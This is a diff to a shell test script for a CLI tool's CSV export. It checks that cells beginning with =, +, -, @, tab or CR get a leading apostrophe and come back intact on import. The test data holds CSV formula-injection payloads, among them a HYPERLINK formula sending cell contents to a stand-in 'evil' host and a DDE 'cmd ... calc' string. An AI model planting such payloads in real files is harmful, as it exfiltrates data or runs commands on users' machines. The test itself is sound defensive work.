@@ -1,6 +1,7 @@
 # tests/cli/export.sh — export as users meet it: CSV opened again by rapport's own import (a
-# round trip) with quoting, a byte-order mark and custom fields; JSON read by jq; ICS read by a
-# real parser (python3-icalendar) with stable UIDs and folded lines; bad input refused.
+# round trip) with quoting, a byte-order mark, custom fields and formulas neutralised; JSON read
+# by jq; ICS read by a real parser (python3-icalendar) with stable UIDs and folded lines; bad
+# input refused.
 . "$(dirname "$0")/../lib.sh"
 ok_run init ws
 WS=$T/ws
@@ -32,6 +33,38 @@ a=$(r list customer --json | jq -c '[.[] | {name, industry, tier, note}] | sort_
 rp -C ../ws2 list customer --json
 b=$(printf '%s' "$OUT" | jq -c '[.[] | {name, industry, tier, note}] | sort_by(.name)')
 eq "$b" "$a" "export then import gives the same customers"
+
+# Formula injection: text a spreadsheet would evaluate (a cell starting with =, +, -, @, tab or
+# carriage return) is written with a leading ', numbers stay numbers, and import takes the '
+# away again, so the values come back byte for byte.
+ok_run init ../wf
+cd ../wf || exit 1
+r field add customer credit number >/dev/null
+r add customer 'name==HYPERLINK("http://evil/?"&A1,"x")' "industry==cmd|' /C calc'!A0" \
+	'region=@SUM(1+1)*cmd|x' 'address=+1+1' 'tags=-minus,=eq' credit=-12.5 >/dev/null
+r add customer "name=$(printf '\tTabbed')" "note=$(printf '\rCR first')" credit=+3 >/dev/null
+r add customer "name='=typed with an apostrophe" "industry=''+two" "region='plain" \
+	"address=it's = fine" >/dev/null
+ok_run export customer -o f.csv
+cr=$(printf '\r')
+tab=$(printf '\t')
+grep -q "^[0-9a-f]*,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",'=cmd|' /C calc'!A0,'@SUM(1+1)\*cmd|x," f.csv &&
+	ok || bad "formulas are not neutralised with a leading ': $(grep HYPERLINK f.csv)"
+grep -q ",'+1+1,\"'-minus,=eq\",.*,-12\.5$cr\$" f.csv && ok || bad "+1+1, a set or a number is written wrong: $(grep HYPERLINK f.csv)"
+grep -q "^[0-9a-f]*,\"'${tab}Tabbed\"," f.csv && ok || bad "a cell starting with a tab has no leading '"
+grep -q ",\"'${cr}CR first\",3$cr\$" f.csv && ok || bad "a cell starting with a CR has no leading '"
+grep -q ",''=typed with an apostrophe,'''+two,'plain,,lead,,,,it's = fine," f.csv &&
+	ok || bad "apostrophes already in front are not kept apart: $(grep plain f.csv)"
+ok_run init ../wf2
+rp -C ../wf2 field add customer credit number
+rp -C ../wf2 import customer "$T/wf/f.csv" --map id=
+status_is 0 "import of neutralised formulas"
+a=$(r list customer --json | jq -c '[.[] | del(.id, .created, .updated, .author)] | sort_by(.name)')
+rp -C ../wf2 list customer --json
+b=$(printf '%s' "$OUT" | jq -c '[.[] | del(.id, .created, .updated, .author)] | sort_by(.name)')
+eq "$b" "$a" "formulas, apostrophes and numbers round-trip through export and import"
+case "$b" in *'"=HYPERLINK(\"http://evil/?\"&A1,\"x\")"'*'"credit":-12.5'*) ok ;; *) bad "the values did not come back: $b" ;; esac
+cd "$WS" || exit 1
 
 ok_run export invoice --format json
 eq "$(printf '%s' "$OUT" | jq length)" 0 "an empty JSON array"
